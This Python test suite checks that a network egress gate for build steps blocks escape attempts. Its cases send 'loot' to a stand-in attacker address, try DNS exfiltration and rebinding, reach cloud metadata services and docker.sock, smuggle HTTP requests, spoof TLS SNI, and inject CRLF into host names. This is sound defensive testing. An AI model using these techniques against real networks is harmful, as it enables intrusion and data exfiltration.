#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""network_test.py - attacks on names, addresses and transports (N), from inside real steps."""
import json
import os
import socket
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from dd import FETCH, case, check, closed, equal, main, opened, py, run, step  # noqa: E402
from world import ALLOWED, ATTACKER, OTHER, PRIVATE, PRIVATE6, SHARED, SINK6, Canned, Resolver, Sink, Web  # noqa: E402

W = {}
REFUSED = ("ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EACCES", "EPERM", "ECONNRESET", "EADDRNOTAVAIL")


def setup():
    dns = W["dns"] = Resolver()
    dns.say("allowed.test", ALLOWED)
    dns.say("other.test", OTHER)
    dns.say("shared-a.test", SHARED)
    dns.say("shared-b.test", SHARED)
    W["sink"] = Sink(ATTACKER, 9999)
    W["sink_udp"] = Sink(ATTACKER, 9999, udp=True)
    W["sink6"] = Sink(SINK6, 9999)
    W["sink_dns"] = Sink(ATTACKER, 53)
    W["sink_dot"] = Sink(ATTACKER, 853)
    W["sink443"] = Sink(ATTACKER, 443)
    W["allowed443"] = Sink(ALLOWED, 443, banner=b"")
    W["allowed_quic"] = Sink(ALLOWED, 443, udp=True)
    W["web"] = Web(ALLOWED, "allowed")
    W["other"] = Web(OTHER, "other")
    W["shared"] = Web(SHARED, "shared")
    W["private"] = [Web(a, "private", 80) for a in PRIVATE + PRIVATE6]
    W["local"] = Web("127.0.0.1", "loopback", 80)


def name(host, port=80, **more):
    return {"host": host, "port": port, **more}


@case("N-01", "closed gate: TCP to an address is refused within a second, reaches nothing, and is told once")
def _():
    r = closed(f'attempt("tcp", lambda: tcp("{ATTACKER}", 9999))')
    check(r.mark("tcp") in REFUSED, f"connect said {r.mark('tcp')}", r)
    check(int(r.mark("tcp.ms")) < 1000, "refused late: that is a time-out, not a reject", r)
    check(W["sink"].nothing(), "the sink saw something", r)
    denials = [e for e in r.events("net.deny") if ATTACKER in json.dumps(e)]
    equal(len(denials), 1, "net.deny events", r)


@case("N-02", "closed gate: UDP, ICMP, SCTP and raw IP are refused and reach nothing")
def _():
    r = closed(f'''
        def udp():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("{ATTACKER}", 9999)); s.settimeout(2)
            for i in range(3): s.send(b"loot"); time.sleep(0.1)
            return s.recv(10)
        attempt("udp", udp)
        attempt("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("{ATTACKER}", 0)))
        attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(b"x", ("{ATTACKER}", 0)))
        attempt("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("{ATTACKER}", 9999)))
    ''')
    for kind in ("udp", "icmp", "raw", "sctp"):
        check(not r.mark(kind).startswith("ok") and r.mark(kind) != "TIMEOUT", f"{kind} said {r.mark(kind)}", r)
    check(W["sink_udp"].nothing(), "the UDP sink saw something", r)


@case("N-03", "closed gate: no name is resolved, nothing leaves the host, and the record names the query")
def _():
    before = len(W["dns"].queries)
    r = closed('''
        attempt("libc", lambda: socket.getaddrinfo("libc-asks.evil.test", 80))
        attempt("hand", lambda: ask_dns("hand-asks.evil.test"))
    ''')
    check(r.mark("libc").startswith("gai:"), f"libc said {r.mark('libc')}", r)
    equal(r.mark("hand"), "ok:rcode3", "hand-made query", r)
    equal(len(W["dns"].queries), before, "queries upstream", r)
    for asked in ("libc-asks.evil.test", "hand-asks.evil.test"):
        check(r.mentions("dns.deny", asked), f"no dns.deny names {asked}", r)


@case("N-04", "open gate: a name off the list with random labels does not exist, and never travels upstream")
def _():
    label = "x" * 60
    r = opened(f'attempt("dns", lambda: ask_dns("{label}.{label}.evil.test")); attempt("sub", lambda: ask_dns("{label}.allowed.test"))',
               [name("allowed.test")])
    equal(r.mark("dns"), "ok:rcode3", "answer", r)
    equal(r.mark("sub"), "ok:rcode3", "answer below an exact name", r)
    check(not W["dns"].asked("xxxxx"), "the upstream resolver saw the label", r)


@case("N-04", "a program hears that a refused name does not exist, and asks once; a question for other records gets no line that would not help")
def _():
    r = opened('''
        attempt("name", lambda: socket.getaddrinfo("refused.test", 80, socket.AF_INET))
        attempt("srv", lambda: ask_dns("_http._tcp.refused.test", kind=33))
        attempt("txt", lambda: ask_dns("allowed.test", kind=16))
    ''', [name("allowed.test")])
    equal(r.mark("name"), "gai:-2", "answer (-2 is EAI_NONAME, -3 EAI_AGAIN)", r)
    equal(sum(e["count"] for e in r.events("dns.deny", host="refused.test")), 1, "questions for the name", r)
    equal([r.mark("srv"), r.mark("txt")], ["ok:rcode3", "ok:rcode0"], "other records: no such name, no such record", r)
    equal({e["host"]: e["reason"] for e in r.events("dns.deny")},
          {"refused.test": "name-not-listed", "_http._tcp.refused.test": "record-type", "allowed.test": "record-type"}, "reasons", r)
    check("host: _http" not in r.out, "a line for a name that no entry would help", r)


@case("N-07", "DNS over TCP obeys the same list; foreign resolvers on 53 and 853 are out of reach")
def _():
    r = opened(f'''
        attempt("own", lambda: ask_dns("tcp-query.evil.test", over_tcp=True))
        attempt("good", lambda: ask_dns("allowed.test", over_tcp=True))
        attempt("tcp53", lambda: ask_dns("allowed.test", server="{ATTACKER}", over_tcp=True))
        attempt("udp53", lambda: ask_dns("allowed.test", server="{ATTACKER}", timeout=1))
        attempt("tcp853", lambda: tcp("{ATTACKER}", 853))
        attempt("own853", lambda: tcp("198.18.0.1", 853))
    ''', [name("allowed.test")])
    equal(r.mark("own"), "ok:rcode3", "query over TCP", r)
    equal(r.mark("good"), "ok:rcode0", "allowed name over TCP", r)
    for attempt in ("tcp53", "udp53", "tcp853", "own853"):
        check(not r.mark(attempt).startswith("ok"), f"{attempt} said {r.mark(attempt)}", r)
    check(W["sink_dns"].nothing() and W["sink_dot"].nothing(), "a foreign resolver was reached", r)


SPECIAL = ["127.0.0.1", *PRIVATE, "::1", "fd00:1::2", "fe80::1", "::ffff:10.1.2.3", "64:ff9b::a01:203", "0.0.0.0", "224.0.0.1"]


@case("N-10", "an allowed name that resolves to a private, loopback, link-local or metadata address is not dialled")
def _():
    for i, address in enumerate(SPECIAL):
        W["dns"].say(f"inward-{i}.test", address)
    before = [len(w.requests) for w in W["private"]] + [len(W["local"].requests)]
    names = [f"inward-{i}.test" for i in range(len(SPECIAL))]
    r = opened(f'''
        for name in {names!r}:
            attempt(name, lambda: exchange(name, 80, b"GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % name.encode()))
    ''', [name(n) for n in names])
    for host in names:
        check("this is" not in r.mark(host), f"{host} was reached: {r.mark(host)}", r)
        check(r.mentions("net.deny", host), f"no net.deny names {host}", r)
    equal([len(w.requests) for w in W["private"]] + [len(W["local"].requests)], before, "requests at private servers", r)


@case("N-10", "OK: `private: allow` lets the same name in")
def _():
    W["dns"].say("inside.test", "10.1.2.3")
    r = opened('attempt("get", lambda: exchange("inside.test", 80, b"GET / HTTP/1.1\\r\\nHost: inside.test\\r\\n\\r\\n"))',
               [name("inside.test", private="allow")])
    equal(r.mark("get"), "ok:this is private", "answer", r)


@case("N-11", "rebinding: after a public answer the private one is never dialled")
def _():
    W["dns"].say("rebind.test", turns=[[ALLOWED], ["10.1.2.3"]])
    r = opened('''
        a = socket.gethostbyname("rebind.test")
        for i in range(4):
            attempt("get%d" % i, lambda: exchange("rebind.test", 80, b"GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\nConnection: close\\r\\n\\r\\n"))
        time.sleep(2.3)   # longer than an answer with a time to live of 0 is believed
        attempt("late", lambda: exchange(a, 80, b"GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\nConnection: close\\r\\n\\r\\n"))
    ''', [name("rebind.test")])
    for i in range(4):
        check("this is private" not in r.mark(f"get{i}"), f"connection {i} reached the private address", r)
    equal(r.mark("get0"), "ok:this is allowed", "the first connection", r)
    check("this is" not in r.mark("late"), f"after the answer's time the connection said {r.mark('late')}", r)
    check(len([q for q in W["dns"].asked("rebind.test") if q[1] == 1]) >= 2, "the name was resolved once: the test proves nothing", r)
    check(r.mentions("net.deny", "private answer"), "no net.deny tells of the private answer", r)


@case("N-12", "metadata addresses stay out of reach in both states of the gate, even inside an allowed CIDR")
def _():
    code = '''
        for a in ("169.254.169.254", "fd00:ec2::254", "168.63.129.16"):
            attempt(a, lambda: exchange(a, 80, b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))
    '''
    wide = [{"cidr": "169.254.0.0/16", "port": 80, "private": "allow"}, {"cidr": "168.63.0.0/16", "port": 80}]
    for r in (closed(code), opened(code, wide)):
        for address in ("169.254.169.254", "168.63.129.16"):
            check("this is" not in r.mark(address), f"{address} answered", r)
    check(not any("this is" in v for v in r.marks.values()), "a metadata service answered", r)


@case("N-13", "two names on one address: allowing the first does not open the second")
def _():
    r = opened('''
        def get(host): return exchange("shared-a.test", 80, b"GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % host)
        attempt("first", lambda: get(b"shared-a.test"))
        attempt("second", lambda: get(b"shared-b.test"))
        attempt("sni", lambda: exchange("shared-a.test", 443, client_hello("shared-b.test")))
        attempt("keepalive", lambda: exchange("shared-a.test", 80, [b"GET / HTTP/1.1\\r\\nHost: shared-b.test\\r\\n\\r\\n"]))
    ''', [name("shared-a.test"), name("shared-a.test", 443)])
    equal(r.mark("first"), "ok:this is shared", "first name", r)
    for attempt in ("second", "sni", "keepalive"):
        check("this is shared" not in r.mark(attempt), f"{attempt} got through", r)
    check(not any(h == "shared-b.test" for h, _, _ in W["shared"].requests), "the server saw the second name", r)
    check(r.mentions("net.deny", "names another host") and r.mentions("net.deny", "is another host"), "HTTP or TLS refusal is not in the record", r)


class Careless:
    """A server of two names on one address that looks for a body only where its method has one, and reads header names as a CGI program does."""

    def __init__(self, address, port):
        self.asked = []     # (method, host) of every request as this server understands them
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((address, port))
        sock.listen(64)
        threading.Thread(target=self._accept, args=(sock,), daemon=True).start()

    def _accept(self, sock):
        while True:
            threading.Thread(target=self._serve, args=(sock.accept()[0],), daemon=True).start()

    def _serve(self, peer):
        with peer, peer.makefile("rb") as stream:
            try:
                while line := stream.readline():
                    fields = {}
                    while (header := stream.readline()) not in (b"\r\n", b"\n", b""):
                        key, _, value = header.partition(b":")
                        fields.setdefault(key.strip().lower().replace(b"_", b"-"), value.strip())
                    self.asked.append((line.split()[0].decode(), fields.get(b"host", b"").decode()))
                    if b"expect" in fields:
                        peer.sendall(b"HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n")
                        continue
                    dropped = [t.strip().lower() for t in fields.get(b"connection", b"").split(b",")]
                    length = int(fields.get(b"content-length", b"0")) if b"content-length" not in dropped else 0
                    if line.split()[0] in (b"POST", b"PUT"):
                        stream.read(length)
                    peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
            except (OSError, IndexError, ValueError):
                pass


@case("N-31", "no body, Expect, or header name that servers read differently carries a second request to another name")
def _():
    server = Careless(SHARED, 8090)
    r = opened('''
        evil = b"GET / HTTP/1.1\\r\\nHost: shared-b.test\\r\\n\\r\\n"
        def talk(method, *headers, body=evil):
            s = socket.create_connection(("shared-a.test", 8090), 3); s.settimeout(1)
            s.sendall(b"\\r\\n".join([method + b" / HTTP/1.1", b"Host: shared-a.test", *headers]) + b"\\r\\n\\r\\n" + body)
            try: return s.recv(100)
            except TimeoutError: return "open"
        length = b"Content-Length: %d" % len(evil)
        for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE", b"BREW"):
            attempt(method.decode() + ".length", lambda: talk(method, length))
            attempt(method.decode() + ".chunked", lambda: talk(method, b"Transfer-Encoding: chunked", body=b"%x\\r\\n%s\\r\\n0\\r\\n\\r\\n" % (len(evil), evil)))
        attempt("expect", lambda: talk(b"PUT", length, b"Expect: 100-continue"))
        attempt("expect2", lambda: talk(b"PUT", length, b"Expect: 100-continue, x"))
        attempt("expect3", lambda: talk(b"GET", b"Expect: 100-continue"))
        attempt("underscore", lambda: talk(b"POST", b"Content_Length: 0", length))
        attempt("underscore2", lambda: talk(b"POST", length, b"Transfer_Encoding: chunked"))
        attempt("hop", lambda: talk(b"POST", length, b"Connection: close, Content-Length"))
        attempt("identity", lambda: talk(b"POST", length, b"Transfer-Encoding: identity"))
        attempt("fine", lambda: talk(b"POST", length))
    ''', [name("shared-a.test", 8090)])
    check("200" in r.mark("fine"), f"an honest request said {r.mark('fine')}", r)
    equal({h for _, h in server.asked}, {"shared-a.test"}, "hosts that the server was asked for", r)
    equal([m for m, _ in server.asked], ["PUT", "POST"], "requests that it saw", r)
    equal({e["reason"] for e in r.events("net.deny")} >= {"http-body", "http-expect", "http-header-name", "http-connection"}, True, "reasons", r)


@case("N-13", "neither a request after the first, nor another port in Host, nor a change of protocol that the server grants, opens the way to another name")
def _():
    server = Canned(SHARED, 8080, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n")
    plain = Canned(SHARED, 8081, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    r = opened('''
        def talk(port, *parts):
            s = socket.create_connection(("shared-a.test", port), 3); s.settimeout(1)
            for part in parts: s.sendall(part); time.sleep(0.2)
            try: return s.recv(100)
            except TimeoutError: return "open"
        evil = b"GET / HTTP/1.1\\r\\nHost: shared-b.test\\r\\n\\r\\n"
        good = b"GET / HTTP/1.1\\r\\nHost: shared-a.test\\r\\n"
        attempt("second", lambda: talk(8081, good + b"\\r\\n", evil))
        attempt("pipelined", lambda: talk(8081, good + b"\\r\\n" + evil))
        attempt("body", lambda: talk(8081, b"POST / HTTP/1.1\\r\\nHost: shared-a.test\\r\\nContent-Length: 4\\r\\n\\r\\nbody" + evil))
        attempt("chunked", lambda: talk(8081, b"POST / HTTP/1.1\\r\\nHost: shared-a.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil))
        attempt("port", lambda: talk(8081, b"GET / HTTP/1.1\\r\\nHost: shared-a.test:8080\\r\\n\\r\\n"))
        attempt("h2c", lambda: talk(8080, good + b"Upgrade: h2c\\r\\nConnection: Upgrade\\r\\n\\r\\n", evil))
        attempt("unasked", lambda: talk(8080, good + b"\\r\\n", evil))
        attempt("fine", lambda: talk(8081, b"GET / HTTP/1.1\\r\\nHost: shared-a.test:8081\\r\\n\\r\\n"))
    ''', [name("shared-a.test", 8080), name("shared-a.test", 8081)])
    check("200" in r.mark("fine"), f"an honest request said {r.mark('fine')}", r)
    for got in server.got + plain.got:
        check(b"shared-b" not in got and b":8080" not in got, f"a server saw {got!r}", r)
    check(not any(got.count(b"GET") > 1 for got in server.got), "bytes passed after a 101 to another protocol", r)
    check(r.mentions("net.deny", "other than WebSocket"), "the change of protocol is not in the record", r)


@case("N-14", "an allowed SNI sent to the attacker's address reaches nobody there")
def _():
    r = opened(f'attempt("spoof", lambda: exchange("{ATTACKER}", 443, client_hello("allowed.test")))', [name("allowed.test", 443)])
    check(r.mark("spoof") in REFUSED, f"connect said {r.mark('spoof')}", r)
    check(W["sink443"].nothing(), "the attacker saw a connection", r)


@case("N-16", "odd TLS hellos are canonicalised or refused; none that names somebody else passes")
def _():
    before = W["allowed443"].connections
    r = opened('''
        hello = client_hello("allowed.test")
        def patched(name): return hello.replace(b"allowed.test", name)
        none = client_hello(None)
        for label, data in (("none", none), ("other", patched(b"allowee.test")), ("nul", patched(b"allow\\0d.test")),
                            ("dotless", patched(b"allowed-test")), ("garbage", b"\\x16\\x03\\x01\\x00\\x05hello"), ("binary", b"\\0\\1\\2\\3" * 20),
                            ("long", client_hello("a" * 60 + "." + "b" * 60 + ".test"))):
            attempt(label, lambda: exchange("allowed.test", 443, data, 3))
    ''', [name("allowed.test", 443)], timeout=90)
    equal(W["allowed443"].connections, before, "connections that reached the server", r)
    for label in ("none", "other", "nul", "dotless", "garbage", "long"):
        check(r.mark(label) != "TIMEOUT", f"{label} was neither refused nor answered", r)
    r = opened('''
        hello = client_hello("allowed.test")
        for label, data in (("upper", [hello.replace(b"allowed.test", b"ALLOWED.test")]), ("split", [hello[i:i + 60] for i in range(0, len(hello), 60)])):
            s = socket.create_connection(("allowed.test", 443), 3)
            for part in data: s.sendall(part); time.sleep(0.02)
            time.sleep(0.3); s.close()
        mark("sent", "yes")
    ''', [name("allowed.test", 443)])
    equal(W["allowed443"].connections, before + 2, "well-formed hellos that reached the server", r)


WITH_ECH = '''
        def with_ech(hello, form=0, key=32, payload=144):
            """@hello with one more extension behind the others, and every length that it changes."""
            body = bytes([form, 0, 1, 0, 1, 7]) + key.to_bytes(2, "big") + bytes(key) + payload.to_bytes(2, "big") + bytes(payload)
            more = b"\\xfe\\x0d" + len(body).to_bytes(2, "big") + body
            at = 5 + 4 + 2 + 32
            at += 1 + hello[at]                                    # session id
            at += 2 + int.from_bytes(hello[at:at + 2], "big")      # cipher suites
            at += 1 + hello[at]                                    # compression methods
            message = hello[9:at] + (int.from_bytes(hello[at:at + 2], "big") + len(more)).to_bytes(2, "big") + hello[at + 2:] + more
            message = b"\\x01" + len(message).to_bytes(3, "big") + message
            return hello[:3] + len(message).to_bytes(2, "big") + message
'''


@case("N-15", "a hello with an encrypted one passes by its outer name, and record and receipt say so; the first of a kind is told whatever came before")
def _():
    before = W["allowed443"].connections
    r = opened(WITH_ECH + '''
        for data in ([client_hello("allowed.test")], [with_ech(client_hello("allowed.test"))], [with_ech(client_hello("allowed.test"))[i:i + 50] for i in range(0, 900, 50)]):
            s = socket.create_connection(("allowed.test", 443), 3)
            for part in data: s.sendall(part); time.sleep(0.02)
            time.sleep(0.3); s.close()
    ''', [name("allowed.test", 443)])
    equal(W["allowed443"].connections, before + 3, "connections that reached the server", r)
    equal([e.get("ech") for e in r.events("net.allow")], [None, "outer", "outer"], "net.allow", r)
    equal([(d["connections"], d["ech"]) for d in r.events("gate.close")[0]["receipt"]], [(3, 2)], "receipt", r)


@case("N-16", "an encrypted hello helps no other name, no form that clients do not send, and nothing where the entry says `ech: refuse`")
def _():
    before, foreign = W["allowed443"].connections, W["sink443"].connections
    r = opened(WITH_ECH + '''
        for label, data in (("other", with_ech(client_hello("evil.test"))), ("none", with_ech(client_hello(None))), ("inner", with_ech(client_hello("allowed.test"), form=1)),
                            ("empty", with_ech(client_hello("allowed.test"), payload=0))):
            attempt(label, lambda: exchange("allowed.test", 443, data, 3))
    ''', [name("allowed.test", 443)])
    equal([W["allowed443"].connections, W["sink443"].connections], [before, foreign], "connections that reached a server", r)
    equal(sorted(e["reason"] for e in r.events("net.deny")), ["tls-malformed", "tls-malformed", "tls-no-name", "tls-other-host"], "reasons", r)
    r = opened(WITH_ECH + '''
        attempt("ech", lambda: exchange("allowed.test", 443, with_ech(client_hello("allowed.test")), 3))
        s = socket.create_connection(("allowed.test", 443), 3); s.sendall(client_hello("allowed.test")); time.sleep(0.3)
    ''', [name("allowed.test", 443, ech="refuse")])
    equal(W["allowed443"].connections, before + 1, "only the plain hello reaches the server", r)
    equal([e["reason"] for e in r.events("net.deny")], ["tls-encrypted-hello"], "reasons", r)
    check("write `ech: pass` into the entry at" in r.out, "the line that would allow it", r)
    r = opened(WITH_ECH + '''
        s = socket.create_connection(("allowed.test", 443), 3); s.sendall(with_ech(client_hello("allowed.test"))); s.shutdown(socket.SHUT_WR); s.recv(1)
    ''', [name("allowed.test", 443, ech="refuse")], options=["--observe"])
    equal([(e["speaks"], e["ech"], e["would"], e["reason"]) for e in r.events("net.allow")], [("tls", "outer", "deny", "tls-encrypted-hello")],
          "observed: a hello for this name, which enforcing refuses for what is in it", r)


@case("N-17", "host names with forbidden bytes are refused before anything is resolved")
def _():
    before = len(W["dns"].queries)
    r = opened('''
        for label, host in (("nul", b"allowed.test\\0.evil.test"), ("space", b"allowed.test evil.test"), ("pct", b"allowed.test%00.evil.test"),
                            ("at", b"allowed.test@evil.test"), ("backslash", b"allowed.test\\\\evil.test"), ("cr", b"evil.test\\r\\nHost: allowed.test")):
            attempt("http-" + label, lambda: exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n"))
            attempt("abs-" + label, lambda: exchange("allowed.test", 80, b"GET http://" + host + b"/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
        attempt("connect", lambda: exchange("allowed.test", 80, b"CONNECT evil.test:80 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
        attempt("absolute", lambda: exchange("allowed.test", 80, b"GET http://evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
        attempt("twohosts", lambda: exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n"))
        attempt("dns", lambda: ask_dns("allowed\\0.test")); attempt("dnsat", lambda: ask_dns("x@allowed.test"))
    ''', [name("allowed.test")], timeout=90)
    for label, value in r.marks.items():
        if not label.endswith(".ms"):
            check("this is" not in value, f"{label} got through", r)
    check(not [q for q in W["dns"].queries[before:] if q[0] != "allowed.test"], "another name went upstream", r)


@case("N-18", "names that only look like an allowed one are refused; the trailing dot is the same name")
def _():
    for host in ("notexample.test", "example.test.evil.test", "example.test"):
        W["dns"].say(host, OTHER)
    r = opened('''
        for host in ("notexample.test", "example.test.evil.test", "xexample.test", "example.testx"):
            attempt(host, lambda: ask_dns(host))
        attempt("dot", lambda: exchange("example.test.", 80, b"GET / HTTP/1.1\\r\\nHost: example.test\\r\\nConnection: close\\r\\n\\r\\n"))
    ''', [name("example.test")])
    for host in ("notexample.test", "example.test.evil.test", "xexample.test", "example.testx"):
        equal(r.mark(host), "ok:rcode3", host, r)
    equal(r.mark("dot"), "ok:this is other", "trailing dot", r)


@case("N-19", "IPv6 literals, mapped and scoped addresses lead nowhere")
def _():
    r = opened(f'''
        attempt("v6", lambda: tcp("{SINK6}", 9999))
        attempt("mapped", lambda: tcp("::ffff:{ATTACKER}", 9999))
        def scoped():
            s = socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(("fe80::1", 9999, 0, 1)); return "connected"
        attempt("scoped", scoped)
        def advertise():
            s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58); return s.sendto(b"\\x86" + b"\\0" * 15, ("ff02::1", 0))
        attempt("ra", advertise)
    ''', [name("allowed.test")])
    for attempt in ("v6", "mapped", "scoped", "ra"):
        check(not r.mark(attempt).startswith("ok") and r.mark(attempt) != "TIMEOUT", f"{attempt} said {r.mark(attempt)}", r)
    check(W["sink6"].nothing() and W["sink"].nothing(), "a sink saw something", r)


@case("N-20", "QUIC to an allowed host is refused at once, and TCP to it works")
def _():
    r = opened('''
        def quic():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((socket.gethostbyname("allowed.test"), 443))
            s.send(b"\\xc0" + b"q" * 1200); return s.recv(10)
        attempt("quic", quic)
        attempt("tcp", lambda: exchange("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
    ''', [name("allowed.test"), name("allowed.test", 443)])
    check(r.mark("quic") in REFUSED, f"QUIC said {r.mark('quic')}", r)
    check(int(r.mark("quic.ms")) < 1000, "a late refusal", r)
    equal(r.mark("tcp"), "ok:this is allowed", "TCP", r)
    check(W["allowed_quic"].nothing(), "a datagram arrived", r)


@case("N-21", "sockets of host daemons, pathname or abstract, are not there")
def _():
    import socket
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0dd-test-abstract-%d" % os.getpid())
    abstract.listen(1)
    r = closed(f'''
        def unix(path):
            s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); return "connected"
        for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                     "/run/systemd/resolve/io.systemd.Resolve", "/tmp/.X11-unix/X0", "/run/nscd/socket"):
            attempt(path, lambda: unix(path))
        attempt("abstract", lambda: unix("\\0dd-test-abstract-{os.getpid()}"))
    ''')
    for label, value in r.marks.items():
        if not label.endswith(".ms"):
            check(not value.startswith("ok"), f"{label} said {value}", r)
    check("abstract" in r.marks, "the step did not try", r)


@case("N-22", "socket families that no build needs cannot be opened; routes cannot be written")
def _():
    r = closed('''
        for label, args in (("vsock", (40, 1, 0)), ("packet", (17, 3, 0)), ("alg", (38, 5, 0)), ("bluetooth", (31, 3, 1)), ("xdp", (44, 3, 0)),
                            ("nfnetlink", (16, 3, 12)), ("audit", (16, 3, 9)), ("kcm", (41, 2, 0)), ("tipc", (30, 5, 0)), ("can", (29, 3, 1))):
            attempt(label, lambda: socket.socket(*args))
        def add_route():
            s = socket.socket(16, 3, 0)
            body = struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0) + struct.pack("HH4s", 8, 1, b"\\x2d\\x0a\\x14\\x42")
            s.send(struct.pack("IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
            code = struct.unpack("i", s.recv(4096)[16:20])[0]
            if code: raise OSError(-code, "route")
            return "added"
        attempt("route", add_route)
    ''')
    for label in ("vsock", "packet", "alg", "bluetooth", "xdp", "nfnetlink", "audit", "kcm", "tipc", "can"):
        check(r.mark(label) in ("EPERM", "EAFNOSUPPORT", "EACCES"), f"{label} said {r.mark(label)}", r)
    check(r.mark("route") in ("EPERM", "EACCES"), f"adding a route said {r.mark('route')}", r)


@case("N-23", "source routes, fast open and simultaneous open do not get around the gate")
def _():
    before = W["sink"].connections
    r = closed(f'''
        def source_route():
            s = socket.socket(); s.settimeout(2); s.setsockopt(0, 4, b"\\x83\\x07\\x04" + socket.inet_aton("{ATTACKER}") + b"\\0"); s.connect(("198.18.0.2", 9999))
            return "connected"
        attempt("lsrr", source_route)
        def fast_open():
            s = socket.socket(); s.settimeout(2); s.sendto(b"data in the SYN", 0x20000000, ("{ATTACKER}", 9999)); return "sent"
        attempt("tfo", fast_open)
        def simultaneous():
            s = socket.socket(); s.settimeout(2); s.bind(("198.18.0.2", 5555)); s.connect(("{ATTACKER}", 9999)); return "connected"
        attempt("simultaneous", simultaneous)
    ''')
    for attempt in ("lsrr", "tfo", "simultaneous"):
        check(not r.mark(attempt).startswith("ok:connected") and r.mark(attempt) != "ok:sent", f"{attempt} said {r.mark(attempt)}", r)
    equal(W["sink"].connections, before, "connections at the sink", r)


@case("N-24", "ten megabytes to an allowed host in fetch are cut at the upload budget, with an event that counts")
def _():
    W["web"].requests.clear()
    r = opened('''
        def upload():
            s = tcp("allowed.test", 80, b"POST /loot HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 10485760\\r\\n\\r\\n")
            for i in range(160): s.sendall(b"L" * 65536)
            return s.recv(100)
        attempt("upload", upload)
    ''', [name("allowed.test")], fetch={"upload": "256KiB"})
    check("200" not in r.mark("upload"), "the upload went through", r)
    got = sum(n for _, _, n in W["web"].requests)
    check(got <= 256 * 1024, f"{got} bytes arrived, the budget is 262144", r)
    violations = [e for e in r.events("violation") if "budget" in json.dumps(e)]
    check(violations and "allowed.test" in json.dumps(violations), "no violation names the host", r)


@case("N-26", "the address behind an allowed name cannot be used without asking for the name")
def _():
    before = len(W["web"].requests)
    r = opened(f'''
        attempt("real", lambda: exchange("{ALLOWED}", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
        attempt("synthetic", lambda: exchange("198.18.1.0", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
        attempt("next", lambda: exchange("198.18.1.1", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))
    ''', [name("allowed.test")])
    for attempt in ("real", "synthetic", "next"):
        check(r.mark(attempt) in REFUSED, f"{attempt} said {r.mark(attempt)}", r)
    equal(len(W["web"].requests), before, "requests at the server", r)


@case("N-27", "an address granted to one step is refused to the next")
def _():
    first = 'a = socket.gethostbyname("allowed.test"); open("/work/address", "w").write(a); attempt("a", lambda: exchange(a, 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))'
    second = 'a = open("/work/address").read(); attempt("b", lambda: exchange(a, 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"))'
    r = run([step("first", py(first), FETCH), step("second", py(second))], {"fetch": {"egress": [name("allowed.test")]}})
    equal(r.mark("a"), "ok:this is allowed", "first step", r)
    check(r.mark("b") in REFUSED, f"second step said {r.mark('b')}", r)


@case("N-28", "two hundred threads that race the DNS answer all get through: no time-out, no leak")
def _():
    r = opened('''
        results = []; barrier = threading.Barrier(200)
        def one():
            barrier.wait()
            try:
                started = time.monotonic()
                got = exchange(socket.gethostbyname("allowed.test"), 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n", 20)
                results.append("good" if got == "this is allowed" else got or "closed")
            except Exception as e: results.append("TIMEOUT" if isinstance(e, TimeoutError) else "%s" % e)
        threads = [threading.Thread(target=one) for i in range(200)]
        [t.start() for t in threads]; [t.join() for t in threads]
        mark("good", results.count("good")); mark("late", results.count("TIMEOUT")); mark("rest", sorted(set(results) - {"good"}))
    ''', [name("allowed.test")], timeout=90)
    equal(r.mark("late"), "0", "time-outs", r)
    equal(r.mark("good"), "200", "connections (others: %s)" % r.mark("rest"), r)


@case("N-29", "a step cannot touch rules, routes, links or make a namespace with its own")
def _():
    r = closed(f'''
        def command(*argv):
